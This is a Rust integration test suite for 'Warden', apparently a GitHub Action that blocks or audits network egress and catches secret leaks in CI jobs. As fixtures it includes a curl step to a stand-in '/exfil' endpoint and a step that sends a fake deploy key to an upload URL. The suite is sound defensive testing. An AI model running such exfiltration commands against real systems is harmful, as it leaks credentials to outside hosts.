//! The GitHub Action end to end (issue #8): node runs `action/main.js` and `action/post.js` as
//! the runner would, the job's steps run as children of a stand-in `Runner.Worker` inside the
//! test's cgroup and namespace, and the test checks what a workflow author sees: each
//! destination under the right step, the job summary, the annotations, the outputs, the files
//! left in `RUNNER_TEMP`, and whether post fails.
//!
//! Needs root (skips loudly otherwise), node and curl. Each test builds its own namespace,
//! origins and cgroup; the `cgroup` input always names the test's cgroup.

use std::time::Duration;

use serde_json::Value;
use tests::action::{ActionJob, Step, annotations};
use tests::{Netns, Origins, TestCgroup, audit, clients, skip_unless_root};

/// Deadline for the steps; passing ones take about a second.
const T: Duration = Duration::from_secs(60);

fn run(id: &str, script: String) -> Step {
    Step::Run {
        id: id.into(),
        script,
    }
}

/// The records of `kind` to `ip:port` in the log, with their `process.step`.
fn steps_to(records: &[Value], ip: &str, port: u16) -> Vec<String> {
    audit::connections_to(records, ip, port)
        .iter()
        .map(|r| {
            r["process"]["step"]
                .as_str()
                .unwrap_or("(none)")
                .to_string()
        })
        .collect()
}

#[test]
fn block_mode_job_attributes_steps_reports_and_fails_on_blocked() {
    if skip_unless_root("block_mode_job_attributes_steps_reports_and_fails_on_blocked") {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let ca = origins.ca_pem_path();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "block")
        .input("allowed-endpoints", "tls.example\nhttp.example:80")
        .input("disable-telemetry", "true")
        .input("token", "ghs_0123456789abcdefghijklmnopqrstuvwxyz");

    let steps = [
        run(
            "fetch",
            format!("{}\n", clients::curl("https://tls.example/fetch", &ca)),
        ),
        Step::Uses {
            id: "__octo_fetcher".into(),
            repository: "octo/fetcher".into(),
            reference: "v2".into(),
            script: format!("{}\n", clients::curl("http://http.example/uses", &ca)),
        },
        run(
            "__run_3",
            "curl -sS --fail --max-time 10 http://raw.example:7/exfil\n".into(),
        ),
    ];
    // The worker runs before main, as on a real runner: Warden finds it through /proc.
    let worker = job.spawn_worker(&steps).unwrap();
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "main failed:\n{said}");
    assert!(
        main.stdout.contains("Warden: enforcing (block mode) on"),
        "{said}"
    );
    let notices = annotations(&main.stdout);
    assert!(
        notices
            .iter()
            .any(|(c, m)| c == "notice" && m.contains("input disable-telemetry is ignored")),
        "a harden-runner input Warden does not need gets a notice:\n{said}"
    );
    assert!(
        cgroup.state_dir().exists(),
        "no daemon for the cgroup:\n{said}"
    );
    let state = job.state();
    assert_eq!(
        state.get("started").map(String::as_str),
        Some("true"),
        "{said}"
    );
    let dir = state["dir"].clone();
    let mode = std::fs::metadata(&dir)
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777);
    assert_eq!(mode.ok(), Some(0o700), "{dir} is not root-only:\n{said}");

    job.go().unwrap();
    let ran = worker.wait_timeout(T).unwrap();
    let said = format!("{ran:?}\n{}", job.describe());
    assert!(ran.stdout.contains("step fetch exit 0"), "{said}");
    assert!(ran.stdout.contains("step __octo_fetcher exit 0"), "{said}");
    assert!(
        !ran.stdout.contains("step __run_3 exit 0"),
        "raw.example:7 is not allowed, so curl fails:\n{said}"
    );

    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(
        post.status.code(),
        Some(1),
        "fail-on defaults to blocked in block mode:\n{said}"
    );
    // The daemon is stopped and its state gone; the root-only directory too.
    assert!(!cgroup.state_dir().exists(), "{said}");
    assert!(
        !std::path::Path::new(&dir).exists(),
        "{dir} left behind:\n{said}"
    );

    // Each destination under its step.
    let records = job.audit_records().unwrap();
    let fetch = steps_to(&records, "192.0.2.10", 443);
    assert_eq!(fetch.len(), 1, "{said}");
    assert!(
        fetch[0].starts_with("fetch (run: curl -sS --fail -g --max-time 20 --cacert "),
        "the run step's first line (cut at 80 characters): {fetch:?}\n{said}"
    );
    assert_eq!(
        steps_to(&records, "198.51.100.10", 80),
        ["__octo_fetcher (octo/fetcher@v2)"],
        "{said}"
    );
    let blocked = audit::connections_to(&records, "203.0.113.10", 7);
    assert_eq!(blocked.len(), 1, "{said}");
    assert_eq!(blocked[0]["decision"], "blocked", "{said}");
    assert_eq!(
        blocked[0]["process"]["step"],
        "__run_3 (run: curl -sS --fail --max-time 10 http://raw.example:7/exfil)",
        "{said}"
    );

    // Outputs.
    let outputs = job.outputs();
    let temp = job.runner_temp();
    assert_eq!(
        outputs.get("blocked-count").map(String::as_str),
        Some("1"),
        "{said}"
    );
    assert_eq!(
        outputs.get("anomaly-count").map(String::as_str),
        Some("0"),
        "{said}"
    );
    assert_eq!(
        outputs.get("audit-log").map(String::as_str),
        Some(temp.join("warden-audit.jsonl").to_str().unwrap()),
        "{said}"
    );
    assert_eq!(
        outputs.get("report").map(String::as_str),
        Some(temp.join("warden-report.json").to_str().unwrap()),
        "{said}"
    );

    // One error annotation for the blocked destination, naming its step and the entry to add.
    let notes = annotations(&post.stdout);
    let errors: Vec<&String> = notes
        .iter()
        .filter(|(c, _)| c == "error")
        .map(|(_, m)| m)
        .collect();
    let about_blocked: Vec<&&String> = errors
        .iter()
        .filter(|m| m.contains("raw.example:7 was blocked"))
        .collect();
    assert_eq!(about_blocked.len(), 1, "{said}");
    assert!(
        about_blocked[0].contains("__run_3 (run: curl")
            && about_blocked[0].contains("add to allowed-endpoints: raw.example:7"),
        "{said}"
    );
    assert!(
        errors.iter().any(|m| m.contains("fail-on: blocked")),
        "{said}"
    );

    // The JSON report and the summary.
    let report = job.report().unwrap();
    assert_eq!(report["mode"], "block", "{said}");
    assert_eq!(report["enforcement"]["held"], true, "{said}");
    assert_eq!(report["totals"]["blocked"], 1, "{said}");
    let summary = job.summary();
    assert!(summary.contains("## Warden: block mode"), "{said}");
    assert!(
        summary.contains("enforcement held for the whole job"),
        "{said}"
    );
    let blocked_at = summary
        .find("### Blocked")
        .unwrap_or_else(|| panic!("{said}"));
    let dests_at = summary
        .find("### Destinations by step")
        .unwrap_or_else(|| panic!("{said}"));
    assert!(blocked_at < dests_at, "{said}");
    assert!(
        summary.contains("| raw.example:7 | raw.example:7 |"),
        "{said}"
    );
    assert!(
        summary.contains(
            "| \\_\\_octo\\_fetcher (octo/fetcher@v2) | /usr/bin/curl | http.example:80 | 1 |"
        ),
        "{said}"
    );
    assert!(summary.contains("allowed-endpoints: >\n"), "{said}");
    for entry in [
        "  http.example:80\n",
        "  raw.example:7\n",
        "  tls.example:443\n",
    ] {
        assert!(summary.contains(entry), "{entry:?} not suggested:\n{said}");
    }
}

#[test]
fn audit_mode_job_passes_and_warns() {
    if skip_unless_root("audit_mode_job_passes_and_warns") {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let ca = origins.ca_pem_path();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit");
    let main = job.main().unwrap();
    assert!(main.status.success(), "{main:?}\n{}", job.describe());
    let steps = [run(
        "build",
        format!("{}\n", clients::curl("http://http.example/a", &ca)),
    )];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step build exit 0"), "{ran:?}");
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert!(
        post.status.success(),
        "fail-on is never in audit mode:\n{said}"
    );
    let records = job.audit_records().unwrap();
    let r =
        audit::find_connection(&records, "198.51.100.10", 80).unwrap_or_else(|| panic!("{said}"));
    assert_eq!(r["decision"], "audited", "{said}");
    let step = r["process"]["step"].as_str().unwrap_or_default();
    assert!(step.starts_with("build (run: curl -sS "), "{said}");
    assert_eq!(
        job.outputs().get("blocked-count").map(String::as_str),
        Some("0"),
        "{said}"
    );
    assert!(job.summary().contains("## Warden: audit mode"), "{said}");
    assert!(job.summary().contains("  http.example:80\n"), "{said}");
}

#[test]
fn malformed_inputs_fail_main_naming_each_input() {
    if skip_unless_root("malformed_inputs_fail_main_naming_each_input") {
        return;
    }
    let netns = Netns::new().unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "blok")
        .input("fail-on", "sometimes")
        .input("disable-sudo", "yes")
        .input("tls-inspection", "on")
        .input("secrets", "{\"A\": 1}")
        .input("policy-file", "missing.yml")
        .input("binary-path", "/nonexistent/warden");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert_eq!(main.status.code(), Some(1), "{said}");
    let errors: Vec<String> = annotations(&main.stdout)
        .into_iter()
        .filter(|(c, _)| c == "error")
        .map(|(_, m)| m)
        .collect();
    for (input, why) in [
        ("egress-policy", "\"blok\" is not one of audit, block"),
        (
            "fail-on",
            "\"sometimes\" is not one of blocked, anomaly, never",
        ),
        ("disable-sudo", "\"yes\" is not a boolean"),
        ("tls-inspection", "\"on\" is not a boolean"),
        ("secrets", "the value of A is not a string"),
        ("policy-file", "missing.yml does not exist"),
        ("binary-path", "/nonexistent/warden does not exist"),
    ] {
        let wanted = format!("Warden: input {input}: {why}");
        assert!(
            errors.iter().any(|e| e.starts_with(&wanted)),
            "no error {wanted:?}:\n{said}"
        );
    }
    assert!(!cgroup.state_dir().exists(), "nothing may start:\n{said}");

    // An input only Warden can judge: main fails naming it, in audit mode too.
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit")
        .input("allowed-endpoints", "good.example, bad..name:99999");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert_eq!(main.status.code(), Some(1), "{said}");
    assert!(
        annotations(&main.stdout)
            .iter()
            .any(|(c, m)| c == "error" && m.starts_with("Warden: input allowed-endpoints: ")),
        "{said}"
    );
    assert!(!cgroup.state_dir().exists(), "nothing may start:\n{said}");
    // A cgroup that is not one.
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("cgroup", "/tmp");
    let main = job.main().unwrap();
    assert!(
        annotations(&main.stdout).iter().any(|(c, m)| c == "error"
            && m.starts_with("Warden: input cgroup: /tmp is not under the cgroup v2 mount")),
        "{main:?}"
    );
    // Post after a failed main says so and does not fail again.
    let post = job.post().unwrap();
    assert!(post.status.success(), "{post:?}");
    assert!(
        job.summary().contains("Warden did not run"),
        "{}",
        job.describe()
    );
}

/// `nobody`: the job's user in the disable-sudo test.
const NOBODY: u32 = 65534;

#[test]
fn disable_sudo_keeps_warden_on_and_post_reports_over_the_read_only_channel() {
    if skip_unless_root("disable_sudo_keeps_warden_on_and_post_reports_over_the_read_only_channel")
    {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let ca = origins.ca_pem_path();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    // A private sudoers directory and `nobody` as the job's user: the machine's own sudo
    // configuration is never looked at.
    let sudoers = tempfile::tempdir().unwrap();
    std::fs::write(
        sudoers.path().join("runner"),
        "nobody ALL=(ALL) NOPASSWD:ALL\n",
    )
    .unwrap();
    std::fs::write(sudoers.path().join("admins"), "%wheel ALL=(ALL) ALL\n").unwrap();
    job.input("egress-policy", "block")
        .input("allowed-endpoints", "tls.example")
        .input("disable-sudo", "true")
        .env("WARDEN_SUDOERS_DIR", sudoers.path().to_str().unwrap())
        .env("WARDEN_SUDO_USER", "nobody");

    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    assert!(
        main.stdout.contains("disable-sudo: removed ")
            && main.stdout.contains("granted nobody sudo"),
        "{said}"
    );
    assert!(
        !sudoers.path().join("runner").exists(),
        "nobody's rule is gone:\n{said}"
    );
    assert!(
        sudoers.path().join("admins").exists(),
        "other rules stay:\n{said}"
    );
    assert_eq!(
        job.state().get("sudo-disabled").map(String::as_str),
        Some("true")
    );

    let steps = [
        run(
            "ok",
            format!("{}\n", clients::curl("https://tls.example/ok", &ca)),
        ),
        run(
            "nope",
            "curl -sS --fail --max-time 10 http://http.example/nope\n".into(),
        ),
    ];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step ok exit 0"), "{ran:?}");
    assert!(!ran.stdout.contains("step nope exit 0"), "{ran:?}");

    // The job's user cannot stop Warden or ask its control socket; it can read the log.
    let stop = job.warden_as(NOBODY, &["stop"]).unwrap();
    assert_eq!(stop.status.code(), Some(1), "{stop:?}");
    assert!(
        stop.stderr.contains("only root can stop Warden"),
        "{stop:?}"
    );
    assert!(
        cgroup.state_dir().exists(),
        "nobody stopped Warden: {stop:?}"
    );

    let post = job.post_as(NOBODY).unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(
        post.status.code(),
        Some(1),
        "blocked, so fail-on: blocked fails:\n{said}"
    );
    assert!(
        post.stdout
            .contains("Warden keeps enforcing until the runner exits"),
        "{said}"
    );
    // Still enforcing after post: a later connection is still refused and recorded.
    let status = job.warden_as(0, &["status"]).unwrap();
    assert_eq!(
        status.status.code(),
        Some(0),
        "still on after post: {status:?}\n{said}"
    );
    let later = job
        .steps(
            &[run(
                "late",
                "curl -sS --fail --max-time 10 http://http.example/late\n".into(),
            )],
            T,
        )
        .unwrap();
    assert!(!later.stdout.contains("step late exit 0"), "{later:?}");

    let report = job.report().unwrap();
    assert_eq!(report["enforcement"]["held"], true, "{said}");
    assert_eq!(report["enforcement"]["live"], true, "{said}");
    assert_eq!(report["totals"]["blocked"], 1, "{said}");
    assert!(job.summary().contains("still on"), "{said}");
    let log = job.runner_temp().join("warden-audit.jsonl");
    let owner = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&log).unwrap());
    assert_eq!(owner, NOBODY, "the copy belongs to the job's user");
    let records = job.audit_records().unwrap();
    assert_eq!(
        steps_to(&records, "198.51.100.10", 80),
        ["nope (run: curl -sS --fail --max-time 10 http://http.example/nope)"],
        "{said}"
    );
}

/// `git -C DIR ARGS…`, which must succeed; its stdout.
fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.email=test@warden.invalid",
            "-c",
            "user.name=test",
        ])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn on_pull_request_the_policy_file_comes_from_the_base_branch() {
    if skip_unless_root("on_pull_request_the_policy_file_comes_from_the_base_branch") {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let ca = origins.ca_pem_path();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    let ws = job.workspace();
    let policy = ws.join(".github/warden.yml");
    std::fs::create_dir_all(policy.parent().unwrap()).unwrap();
    git(&ws, &["init", "-q"]);
    std::fs::write(
        &policy,
        "mode: block\nallowed-endpoints:\n  - tls.example\n",
    )
    .unwrap();
    git(&ws, &["add", "."]);
    git(&ws, &["commit", "-qm", "base"]);
    let base = git(&ws, &["rev-parse", "HEAD"]);
    // The pull request's head allows itself more, and its mode is audit.
    std::fs::write(
        &policy,
        "mode: audit\nallowed-endpoints:\n  - tls.example\n  - http.example:80\n",
    )
    .unwrap();
    git(&ws, &["commit", "-qam", "head: allow more"]);
    let event = job.runner_temp().join("event.json");
    let payload = serde_json::json!({"pull_request": {"base": {"sha": base}}});
    std::fs::write(&event, payload.to_string()).unwrap();
    job.input("policy-file", ".github/warden.yml")
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", event.to_str().unwrap());

    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    assert!(
        main.stdout
            .contains("read from the pull request's base branch"),
        "{said}"
    );
    assert!(
        main.stdout.contains("enforcing (block mode)"),
        "the base's mode:\n{said}"
    );
    let steps = [
        run(
            "ok",
            format!("{}\n", clients::curl("https://tls.example/ok", &ca)),
        ),
        run(
            "more",
            "curl -sS --fail --max-time 10 http://http.example/more\n".into(),
        ),
    ];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step ok exit 0"), "{ran:?}\n{said}");
    assert!(
        !ran.stdout.contains("step more exit 0"),
        "the head's extra entry must not apply:\n{ran:?}\n{said}"
    );
    let post = job.post().unwrap();
    assert_eq!(post.status.code(), Some(1), "{post:?}\n{}", job.describe());

    // A base commit the checkout does not have (and cannot fetch): main fails, naming the
    // input, in any mode, and never falls back to the working tree's file.
    let mut job2 = ActionJob::new(&netns, &cgroup).unwrap();
    let ws2 = job2.workspace();
    std::fs::create_dir_all(ws2.join(".github")).unwrap();
    std::fs::write(ws2.join(".github/warden.yml"), "mode: audit\n").unwrap();
    git(&ws2, &["init", "-q"]);
    let missing = serde_json::json!({"pull_request": {"base": {"sha": "0123456789abcdef0123456789abcdef01234567"}}});
    let event2 = job2.runner_temp().join("event.json");
    std::fs::write(&event2, missing.to_string()).unwrap();
    job2.input("policy-file", ".github/warden.yml")
        .input("egress-policy", "audit")
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", event2.to_str().unwrap());
    let main = job2.main().unwrap();
    let said = format!("{main:?}\n{}", job2.describe());
    assert_eq!(main.status.code(), Some(1), "{said}");
    assert!(
        annotations(&main.stdout).iter().any(|(c, m)| c == "error"
            && m.starts_with("Warden: input policy-file: on pull_request the policy file is read from the base branch")),
        "{said}"
    );
    assert!(!cgroup.state_dir().exists(), "{said}");
}

#[test]
fn tls_inspection_exports_the_bundles_and_the_summary_lists_urls() {
    if skip_unless_root("tls_inspection_exports_the_bundles_and_the_summary_lists_urls") {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    // The runner's roots trust the test origins: the namespace's private copy of the system
    // bundle gets the test CA (the machine's own store is never touched), which is what Warden
    // verifies servers against and what the job's bundles extend.
    let system = netns.trust_store_path().join("ca-certificates.crt");
    let mut bundle = std::fs::read_to_string(&system).unwrap();
    bundle.push_str(&std::fs::read_to_string(origins.ca_pem_path()).unwrap());
    std::fs::write(&system, bundle).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit")
        .input("tls-inspection", "true");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let env = job.github_env();
    for var in [
        "SSL_CERT_FILE=/run/warden/trust-",
        "CURL_CA_BUNDLE=/run/warden/trust-",
    ] {
        assert!(env.contains(var), "{var} not exported:\n{said}");
    }
    // curl with no CA option of its own: it trusts Warden's CA through $GITHUB_ENV.
    let steps = [run(
        "fetch",
        "curl -sS --fail --max-time 20 'https://tls.example/inspected?token=s3cr3t&x=1'\n".into(),
    )];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step fetch exit 0"), "{ran:?}\n{said}");
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert!(post.status.success(), "{said}");
    let records = job.audit_records().unwrap();
    let requests = audit::requests(&records);
    assert_eq!(requests.len(), 1, "{said}");
    assert!(
        requests[0]["process"]["step"]
            .as_str()
            .unwrap_or_default()
            .starts_with("fetch (run: curl"),
        "{said}"
    );
    let summary = job.summary();
    assert!(summary.contains("Inspected requests"), "{said}");
    assert!(
        summary.contains("GET https:\u{2060}//tls.example/inspected?token=REDACTED&amp;x=1 200"),
        "{said}"
    );
    assert!(!summary.contains("s3cr3t"), "{said}");
    assert_eq!(job.report().unwrap()["totals"]["requests"], 1, "{said}");
}

#[test]
fn a_warden_that_cannot_start_fails_block_mode_and_warns_in_audit_mode() {
    if skip_unless_root("a_warden_that_cannot_start_fails_block_mode_and_warns_in_audit_mode") {
        return;
    }
    let netns = Netns::new().unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let dir = tempfile::tempdir().unwrap();
    // A stand-in binary whose `start` fails the way a kernel without BPF support would.
    let fake = dir.path().join("warden");
    std::fs::write(
        &fake,
        "#!/bin/sh\n[ \"$1\" = start ] && [ \"$2\" != --help ] && { echo 'warden: load eBPF: Operation not permitted' >&2; exit 1; }\nexit 0\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    for (mode, code, command) in [("block", Some(1), "error"), ("audit", Some(0), "warning")] {
        let mut job = ActionJob::new(&netns, &cgroup).unwrap();
        job.input("egress-policy", mode)
            .input("binary-path", fake.to_str().unwrap());
        let main = job.main().unwrap();
        let said = format!("{mode}: {main:?}\n{}", job.describe());
        assert_eq!(main.status.code(), code, "{said}");
        let notes = annotations(&main.stdout);
        assert!(
            notes.iter().any(|(c, m)| c == command
                && m.contains(
                    "warden start failed (exit 1): warden: load eBPF: Operation not permitted"
                )),
            "{said}"
        );
        assert!(
            notes
                .iter()
                .any(|(c, m)| c == command && m.contains("Warden is NOT")),
            "{said}"
        );
        assert_ne!(
            job.state().get("started").map(String::as_str),
            Some("true"),
            "{said}"
        );
    }
}

#[test]
fn a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly() {
    if skip_unless_root("a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly")
    {
        return;
    }
    const SECRET: &str = "s3cr3t-deploy-value-42";
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let system = netns.trust_store_path().join("ca-certificates.crt");
    let mut bundle = std::fs::read_to_string(&system).unwrap();
    bundle.push_str(&std::fs::read_to_string(origins.ca_pem_path()).unwrap());
    std::fs::write(&system, bundle).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit")
        .input("tls-inspection", "true")
        .input("fail-on", "anomaly")
        .input("secrets", &format!("{{\"DEPLOY_KEY\": \"{SECRET}\"}}"));
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let steps = [run(
        "leak",
        format!("curl -sS --max-time 20 -H 'X-Key: {SECRET}' https://tls.example/upload\n"),
    )];
    let ran = job.steps(&steps, T).unwrap();
    assert!(
        ran.stdout.contains("step leak exit 0"),
        "audit mode lets it through: {ran:?}"
    );
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(post.status.code(), Some(1), "fail-on: anomaly:\n{said}");
    assert_eq!(
        job.outputs().get("anomaly-count").map(String::as_str),
        Some("1"),
        "{said}"
    );
    assert_eq!(
        job.outputs().get("blocked-count").map(String::as_str),
        Some("0"),
        "{said}"
    );
    let warnings: Vec<(String, String)> = annotations(&post.stdout)
        .into_iter()
        .filter(|(c, m)| c == "warning" && m.starts_with("secret-exfiltration: "))
        .collect();
    assert_eq!(
        warnings.len(),
        1,
        "one warning for the anomaly (audit mode):\n{said}"
    );
    assert!(
        warnings[0].1.contains("DEPLOY_KEY") && warnings[0].1.contains("step leak (run: curl"),
        "{said}"
    );
    let summary = job.summary();
    let anomalies_at = summary
        .find("### Anomalies")
        .unwrap_or_else(|| panic!("{said}"));
    let dests_at = summary
        .find("### Destinations by step")
        .unwrap_or_else(|| panic!("{said}"));
    assert!(anomalies_at < dests_at, "anomalies first:\n{said}");
    // The value itself is nowhere a person or an upload step would see it.
    let log = std::fs::read_to_string(job.runner_temp().join("warden-audit.jsonl")).unwrap();
    let report = std::fs::read_to_string(job.runner_temp().join("warden-report.json")).unwrap();
    for (what, text) in [
        ("summary", &summary),
        ("log", &log),
        ("report", &report),
        ("post output", &post.stdout),
    ] {
        assert!(
            !text.contains(SECRET),
            "the secret is in the {what}:\n{said}"
        );
    }
}

#[test]
fn allowed_urls_in_block_mode_refuse_other_requests_and_the_report_says_which_rule() {
    if skip_unless_root(
        "allowed_urls_in_block_mode_refuse_other_requests_and_the_report_says_which_rule",
    ) {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    let system = netns.trust_store_path().join("ca-certificates.crt");
    let mut bundle = std::fs::read_to_string(&system).unwrap();
    bundle.push_str(&std::fs::read_to_string(origins.ca_pem_path()).unwrap());
    std::fs::write(&system, bundle).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "block")
        .input("allowed-urls", "GET https://tls.example/ok/**");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let steps = [
        run(
            "get",
            "curl -sS --fail --max-time 20 https://tls.example/ok/a\n".into(),
        ),
        run(
            "push",
            "curl -sS --fail --max-time 20 -X POST https://tls.example/push\n".into(),
        ),
    ];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step get exit 0"), "{ran:?}\n{said}");
    assert!(
        !ran.stdout.contains("step push exit 0"),
        "refused (403): {ran:?}\n{said}"
    );
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(post.status.code(), Some(1), "{said}");
    let report = job.report().unwrap();
    let blocked = &report["blocked"];
    assert_eq!(blocked.as_array().map(Vec::len), Some(1), "{said}");
    assert_eq!(
        blocked[0]["destination"], "POST https://tls.example/push",
        "{said}"
    );
    assert_eq!(
        blocked[0]["allow_url"], "POST https://tls.example/push",
        "{said}"
    );
    assert_eq!(
        report["allowed_urls"],
        serde_json::json!([
            "GET https://tls.example/ok/**",
            "POST https://tls.example/push"
        ]),
        "{said}"
    );
    assert!(
        annotations(&post.stdout).iter().any(|(c, m)| c == "error"
            && m.starts_with("POST https://tls.example/push was blocked in push (run: curl")
            && m.ends_with("add to allowed-urls: POST https://tls.example/push")),
        "{said}"
    );
    assert!(
        job.summary()
            .contains("allowed-urls: |\n  GET https://tls.example/ok/**\n"),
        "{said}"
    );
}
